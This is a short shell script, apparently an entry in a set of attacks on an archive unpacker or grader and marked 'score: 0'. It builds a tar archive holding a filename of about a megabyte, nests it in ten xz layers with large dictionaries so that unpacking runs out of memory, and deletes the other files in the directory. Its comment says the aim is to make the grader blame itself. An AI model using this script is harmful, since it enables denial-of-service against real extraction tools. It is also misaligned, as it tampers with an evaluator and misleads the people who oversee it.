#!/bin/sh
# attack: an archive in ten layers of xz, each with a memory of its own, around a name of a megabyte: the unpacker has no memory left for the name, and the grader shall take that for its own fault
# score: 0
# named: compressed 10 times over, expected at most 2
: >x
tar -cf archive --transform 's,x,xxxxxxxxxx,g;s,x,xxxxxxxxxx,g;s,x,xxxxxxxxxx,g;s,x,xxxxxxxxxx,g;s,x,xxxxxxxxxx,g;s,x,xxxxxxxxxx,g' x
for dict in 12MiB 768KiB 1MiB 64MiB 64MiB 64MiB 64MiB 64MiB 64MiB 64MiB; do
    xz -c --format=xz --lzma2=preset=1,dict=$dict archive >layer && mv layer archive
done
find . ! -name archive -type f -delete
